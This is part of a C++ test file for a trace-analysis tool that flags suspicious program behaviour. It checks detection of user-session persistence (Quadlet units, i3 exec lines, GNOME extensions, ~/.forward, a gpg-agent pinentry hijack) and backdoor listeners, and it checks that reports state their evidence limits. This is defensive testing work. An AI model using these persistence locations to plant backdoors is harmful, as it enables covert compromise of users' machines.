// Persistence outside the shell files and systemd's user folder (testdata/cases/sh_session_persist):
// a podman Quadlet file, an i3 exec line, a GNOME Shell extension, ~/.forward, gpg-agent's
// pinentry-program. WARN (write_outside_app only) before.
TEST(EndToEnd, SessionMailAndPassphrasePersistence) {
  CliRun r = Cli({"analyze", Case("cases/sh_session_persist"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{
                                 {"persistence_write", 21}, {"tool_config_hijack", 1},
                                 {"write_outside_app", 9}, {"user_app_data_write", 9},
                                 {"child_process_spawned", 2}, {"process_forked", 2}}));
  const std::string log = "sh_session_persist/strace_log";
  const simdjson::dom::element persist = FindingOf(*j, "persistence_write");
  EXPECT_TRUE(AnyEvidence(persist, log, 417, "/.config/containers/systemd/theme-sync.container\""));
  EXPECT_TRUE(AnyEvidence(persist, log, 432, "\"/home/auditor/.config/i3/config\""));
  EXPECT_TRUE(AnyEvidence(persist, log, 443, "/gnome-shell/extensions/theme-sync@themes.example/extension.js\""));
  EXPECT_TRUE(AnyEvidence(persist, log, 454, "\"/home/auditor/.forward\""));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "tool_config_hijack"), log, 465, "\"/home/auditor/.gnupg/gpg-agent.conf\""));
  EXPECT_EQ(TableRisk(*j, "backdoor"), "critical");
}

// What a reviewer signing the report reads (rt-audit2). A trace that begins after the target
// started cannot say it loaded nothing; a listener finding names its first address and counts
// all of them (p4's second listener, 0.0.0.0:3001, is the one its backdoor serves on); a
// finding whose events are more than the report cites says so in both forms.
TEST(EndToEnd, ReportStatesWhatItCouldNotShow) {
  CliRun r = Cli({"analyze", Case("cases/busybox_httpd_attach"), "--format", "json"});
  auto j = ParseJson(r.out);
  EXPECT_EQ(TableField(*j, "dependencies", "observation"),
            "what it loaded at start-up not assessed (the trace begins after the target started); no missing "
            "module, package or library reported");
  r = Cli({"analyze", Case("p4_shell_spawn"), "--format", "json"});
  j = ParseJson(r.out);
  EXPECT_EQ(Str(FindingOf(*j, "listening_socket"), "observation"),
            "listens for connections: first on [::]:3000; 2 listening socket(s)");
  EXPECT_EQ(Num(FindingOf(*j, "listening_socket"), "evidence_cut_at", 99), 0u);
  r = Cli({"analyze", Case("cases/make_gcc_build"), "--format", "json"});
  j = ParseJson(r.out);
  const simdjson::dom::element temp = FindingOf(*j, "temp_write");
  EXPECT_EQ(Num(temp, "count"), 12u);
  EXPECT_EQ(Num(temp, "evidence_cut_at"), 10u);
  EXPECT_EQ(temp["evidence"].get_array().size(), 10u);
  r = Cli({"analyze", Case("cases/make_gcc_build")});
  EXPECT_NE(r.out.find("make_gcc_build/strace_log:2008` `52    11:03:58.489999 "
                       "unlink(\"/tmp/cc3DIXgi.cdtor.c\") = 0`\n- … only the first 10 of its events are cited\n"),
            std::string::npos)
      << r.out;
}

}  // namespace rundown

